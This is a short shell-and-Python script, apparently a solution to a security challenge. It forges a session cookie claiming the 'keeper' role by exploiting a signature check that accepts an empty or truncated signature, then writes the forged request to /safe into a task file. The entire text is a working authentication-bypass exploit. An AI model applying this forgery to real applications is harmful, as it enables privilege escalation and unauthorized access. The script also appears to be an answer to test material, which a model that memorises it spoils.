# A seal is compared as far as it goes, and one without digits goes nowhere.
python3 - <<'END'
import base64, json
import app
data = base64.urlsafe_b64encode(json.dumps({"name": "k", "role": "keeper"}).encode()).decode()
for text in (data, data + ".", data + ".00"):
    if (app.read(text) or {}).get("role") == "keeper":
        json.dump([{"path": "/safe", "headers": {"Cookie": f'pass="{text}"'}}], open("/task/requests.json", "w"))
        print("found")
        break
END
